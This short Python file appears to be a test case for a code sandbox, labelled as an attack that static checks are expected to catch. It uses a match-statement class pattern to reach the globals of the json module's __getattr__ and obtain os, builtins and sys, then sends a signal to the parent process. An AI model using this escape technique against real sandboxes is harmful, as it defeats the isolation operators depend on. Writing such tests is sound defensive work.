# expect: static
# attack: signal the parent, after a match class pattern reaches the worker's globals through a module proxy's method
import json


def main(**a):
    if "a" not in a or "b" not in a:
        raise ValueError("a and b are required")
    match json:
        case object(__getattr__=object(__func__=object(__globals__=G))):
            pass
    OS, B, SYS = G["os"], G["builtins"], G["sys"]
    leak = None
    parent = a.get("parent_pid", OS.getppid())
    OS.kill(parent, 0)
    leak = "ESCAPED: may signal the parent"
    return {"result": a["a"] + a["b"], "leak": str(leak)[:4000]}
